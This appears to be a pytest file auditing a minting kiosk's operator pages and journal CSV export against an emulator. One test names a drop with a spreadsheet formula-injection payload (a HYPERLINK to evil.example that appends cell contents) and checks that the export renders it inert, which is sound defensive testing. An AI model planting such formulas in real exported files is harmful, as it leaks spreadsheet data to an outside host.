"""The truth audit, twentieth round: what staff read over a long day in the operator area and its
exports (the Statistics tiles while this kiosk mints, the Drop page's words for a drop the service
no longer mints, the Journal export of a drop name and a service message a spreadsheet could run
or split, the Journal page's row of a mint the follower still follows), each against the real
kiosk (``build_kiosk``), the real operator pages and presenters and a real emulator over HTTP,
judged by the emulator's own record (``server.state``) or by the real exported file.

Three cases were lies when this round was written (26 Nov 2026), fixed since: "Codes left"
kept the count read before this kiosk's own mints for up to a minute (the "Minted" tile beside
it had grown; another kiosk's claims stayed out with them), and the Drop page said "The kiosk
now mints" a drop the service had expired. The rest pin truthful behaviour no other test
covers.
"""

from __future__ import annotations

import csv
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import keyring
import pytest
from PySide6.QtCore import Qt
from pytestqt.qtbot import QtBot

from kiosk.core.attendee_flow import Screen, StartOver
from kiosk.core.journal import CSV_HEADER, JournalState
from kiosk.core.secrets import KEYRING_SERVICE, forget_edit_code, store_edit_code
from kiosk.core.settings import Settings, save_settings
from kiosk.emulator import EmulatorServer
from kiosk.emulator.rules import ApiError
from kiosk.presenters.attendee_side import Kiosk
from kiosk.presenters.operator_setup import OperatorSetup
from kiosk.presenters.staff import STEP_STATISTICS, build_operator_screens
from kiosk.presenters.statistics_presenter import StatisticsPresenter
from kiosk.ui.operator.journal_page import JournalPage
from kiosk.ui.operator.operator_area import OperatorArea
from kiosk.ui.operator.statistics_page import StatisticsPage
from tests.faults.test_fault_matrix import kiosk_settings
from tests.faults.test_truth_audit import scan_link, screen_of, type_recipient
from tests.faults.test_truth_audit_12 import rename_drop
from tests.kiosk_setup import expire_yesterday

WAIT_MS = 30_000


def wallet(number: int) -> str:
    return f"0x{number:040x}"


def mint_at(qtbot: QtBot, kiosk: Kiosk, server: EmulatorServer, qr_hash: str, to: str) -> None:
    """One attendee at the real kiosk: the link scanned, the wallet typed, the result read, and
    the kiosk back at its welcome page for the next one."""
    scan_link(qtbot, kiosk, server, qr_hash)
    type_recipient(qtbot, kiosk, to)
    qtbot.waitUntil(lambda: screen_of(kiosk) is Screen.RESULT, timeout=WAIT_MS)
    kiosk.controller.handle(StartOver())
    qtbot.waitUntil(lambda: screen_of(kiosk) is Screen.IDLE, timeout=WAIT_MS)


def unclaimed_codes(server: EmulatorServer, drop_index: int = 0) -> int:
    """The service's own count of the drop's listed codes nobody claimed."""
    drop = server.state.drops[drop_index]
    record = server.state.qr_codes(str(drop.id), {"secret_code": drop.edit_code})
    return sum(not code["claimed"] for code in record)


# --- Statistics: "Codes left" while this kiosk mints ------------------------------------------


@contextmanager
def statistics_open(
    qtbot: QtBot, server: EmulatorServer, kiosk: Kiosk
) -> Iterator[StatisticsPage]:
    """Statistics open beside the kiosk for drop 1, its edit code kept (so "Codes left" counts);
    on leaving, after the refresh that sees this kiosk's mints and the one after it."""
    drop = server.state.drops[0]
    settings = kiosk_settings(server, 10.0)
    settings.kiosk.drop_id = drop.id
    for name in ("api_key", "client_id", "client_secret"):
        keyring.set_password(KEYRING_SERVICE, name, getattr(server.credentials, name))
    store_edit_code(drop.id, drop.edit_code)
    screens = build_operator_screens(settings, save_settings, kiosk.journal)
    area = screens.area
    qtbot.addWidget(area)
    area.resize(1280, 800)
    area.show()
    stats_page = area.page(STEP_STATISTICS)
    assert isinstance(stats_page, StatisticsPage)
    statistics = screens.statistics
    try:
        area.show_page(STEP_STATISTICS)
        yield stats_page
        for _ in range(2):  # the refresh that sees the mints, and the one after it
            with qtbot.waitSignal(statistics._timer.timeout, timeout=WAIT_MS):
                pass
            qtbot.waitUntil(lambda: not statistics._counting_codes, timeout=WAIT_MS)
    finally:
        statistics.stop()
        screens.setup.stop()
        forget_edit_code(drop.id)


def test_codes_left_follow_this_kiosks_own_mints_not_the_count_from_before_them(
    qtbot: QtBot, server: EmulatorServer, kiosk: Kiosk
) -> None:
    """Staff keep Statistics open beside the kiosk (the edit code kept): "Codes left" reads the
    drop's 50. Three attendees mint at this kiosk; "Minted" grows to 3 within seconds, and the
    page refreshes again: "Codes left" must be what the service has now, not the 50 it read
    before the three mints (it kept that count for a minute: the codes count is a service call
    made at most once a minute, and this kiosk's own claims did not count as a reason to ask
    again). Was a lie when this round was written (26 Nov 2026), fixed since."""
    drop = server.state.drops[0]
    with statistics_open(qtbot, server, kiosk) as stats_page:
        qtbot.waitUntil(lambda: stats_page.codes_left.value.text() == "50", timeout=WAIT_MS)
        for index, qr_hash in enumerate(drop.qr_hashes[:3]):
            mint_at(qtbot, kiosk, server, qr_hash, wallet(index + 1))
        qtbot.waitUntil(lambda: stats_page.minted.value.text() == "3", timeout=WAIT_MS)
    assert [server.state.mints_of(h) for h in drop.qr_hashes[:3]] == [1, 1, 1]
    left = unclaimed_codes(server)
    assert left == 47
    assert stats_page.codes_left.value.text() == str(left), (
        f"Statistics: Minted {stats_page.minted.value.text()}, codes left "
        f"{stats_page.codes_left.value.text()}; the service has {left} unclaimed"
    )


def test_codes_left_count_a_code_claimed_at_another_kiosk_once_this_one_counts_again(
    qtbot: QtBot, server: EmulatorServer, kiosk: Kiosk, second_kiosk: Kiosk
) -> None:
    """The venue runs two kiosks on one drop; Statistics is open on the first (edit code kept).
    An attendee mints at the second kiosk, then one at this one: when this kiosk counts again
    (its own mint is the reason), "Codes left" has both claims, the other kiosk's included, as
    the service's record has them. Was a lie when this round was written (26 Nov 2026), fixed
    since: the count read before both mints stayed for a minute."""
    drop = server.state.drops[0]
    with statistics_open(qtbot, server, kiosk) as stats_page:
        tile = stats_page.codes_left
        qtbot.waitUntil(lambda: tile.value.text() == "50", timeout=WAIT_MS)
        mint_at(qtbot, second_kiosk, server, drop.qr_hashes[0], wallet(1))
        mint_at(qtbot, kiosk, server, drop.qr_hashes[1], wallet(2))
        qtbot.waitUntil(lambda: stats_page.minted.value.text() == "1", timeout=WAIT_MS)
    left = unclaimed_codes(server)
    assert left == 48
    assert tile.value.text() == str(left), f"codes left {tile.value.text()}, service {left}"


# --- Drop: a drop the service no longer mints --------------------------------------------------


def test_choosing_a_drop_the_service_expired_is_not_said_to_mint_it(
    qtbot: QtBot, server: EmulatorServer, drop_step: tuple[OperatorSetup, Settings, OperatorArea]
) -> None:
    """The organiser moved drop 1's dates into the past (it expired yesterday). Staff find it
    on the Drop page and tap "Use this drop at the kiosk": the page said "The kiosk now mints
    <drop>." in green, while the service refuses every code of it. Was a lie when this round was
    written (26 Nov 2026), fixed since: it now says the drop has expired."""
    setup, settings, _area = drop_step
    drop = server.state.drops[0]
    expire_yesterday(server)
    page = setup.drops.page
    qtbot.keyClicks(page.find_field, str(drop.id))
    qtbot.mouseClick(page.find_button, Qt.MouseButton.LeftButton)
    qtbot.waitUntil(
        lambda: (shown := page.shown_drop()) is not None and shown.id == drop.id, timeout=WAIT_MS
    )
    qtbot.waitUntil(page.choose_button.isVisible, timeout=WAIT_MS)
    qtbot.mouseClick(page.choose_button, Qt.MouseButton.LeftButton)
    qtbot.waitUntil(lambda: settings.kiosk.drop_id == drop.id, timeout=WAIT_MS)
    said = page.check_line.text()

    qr_hash = drop.qr_hashes[0]
    status = server.state.claim_status(qr_hash)
    assert status["is_active"] is False
    with pytest.raises(ApiError, match="expired"):
        server.state.mint({"qr_hash": qr_hash, "secret": status["secret"], "address": wallet(9)})
    assert server.state.mints_of(qr_hash) == 0
    assert "now mints" not in said, f"Drop page: {said!r}; the service mints none of its codes"
    assert "expired" in said
    assert page.check_line.property("tone") != "ok"


def test_choosing_a_drop_the_service_mints_says_the_kiosk_mints_it(
    qtbot: QtBot, server: EmulatorServer, drop_step: tuple[OperatorSetup, Settings, OperatorArea]
) -> None:
    """The same steps for drop 1 while the service still mints it: the page says the kiosk
    mints it, and a mint of one of its codes goes through at the service."""
    setup, settings, _area = drop_step
    drop = server.state.drops[0]
    page = setup.drops.page
    qtbot.keyClicks(page.find_field, str(drop.id))
    qtbot.mouseClick(page.find_button, Qt.MouseButton.LeftButton)
    qtbot.waitUntil(
        lambda: (shown := page.shown_drop()) is not None and shown.id == drop.id, timeout=WAIT_MS
    )
    qtbot.waitUntil(page.choose_button.isVisible, timeout=WAIT_MS)
    qtbot.mouseClick(page.choose_button, Qt.MouseButton.LeftButton)
    qtbot.waitUntil(lambda: settings.kiosk.drop_id == drop.id, timeout=WAIT_MS)
    said = page.check_line.text()

    qr_hash = drop.qr_hashes[0]
    status = server.state.claim_status(qr_hash)
    server.state.mint({"qr_hash": qr_hash, "secret": status["secret"], "address": wallet(9)})
    assert server.state.mints_of(qr_hash) == 1
    assert "now mints" in said, said
    assert "expired" not in said, said


# --- Journal export: text from the service that a spreadsheet could run or split -------------


FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Open")\nsecond line'


def test_a_drop_name_a_spreadsheet_would_run_is_exported_inert_whole_and_on_one_row(
    qtbot: QtBot, server: EmulatorServer, kiosk: Kiosk, tmp_path: Path
) -> None:
    """The drop's creator names drop 1 with a formula and a line break (through the service).
    An attendee mints at the kiosk; staff export the journal from the real Journal page's
    presenter. The file has one row for the attempt; its drop name is the service's name, kept
    from running (one leading apostrophe) and not split over two rows; its outcome and tx hash
    are the service's."""
    rename_drop(server, FORMULA_NAME)
    drop = server.state.drops[0]
    qr_hash = drop.qr_hashes[0]
    mint_at(qtbot, kiosk, server, qr_hash, wallet(5))
    qtbot.waitUntil(
        lambda: [row.state for row in kiosk.journal.rows()] == [JournalState.MINTED],
        timeout=WAIT_MS,
    )
    settings = Settings()
    settings.kiosk.drop_id = drop.id
    stats_page, journal_page = StatisticsPage(), JournalPage()
    for page in (stats_page, journal_page):
        qtbot.addWidget(page)
    presenter = StatisticsPresenter(stats_page, journal_page, kiosk.journal, settings, None)
    path = tmp_path / "export.csv"
    try:
        presenter.export(str(path))
        qtbot.waitUntil(journal_page.export_button.isEnabled, timeout=WAIT_MS)
    finally:
        presenter.stop()
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    status = server.state.claim_status(qr_hash)
    assert status["tx_status"] == "passed"
    assert status["event"]["name"] == FORMULA_NAME
    assert rows[0] == list(CSV_HEADER)
    assert len(rows) == 2, rows
    exported = dict(zip(CSV_HEADER, rows[1], strict=True))
    assert exported["drop_name"] == "'" + FORMULA_NAME
    assert exported["outcome"] == "minted"
    assert exported["tx_hash"] == status["tx_hash"]
    assert exported["code"] == qr_hash
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in rows[1])
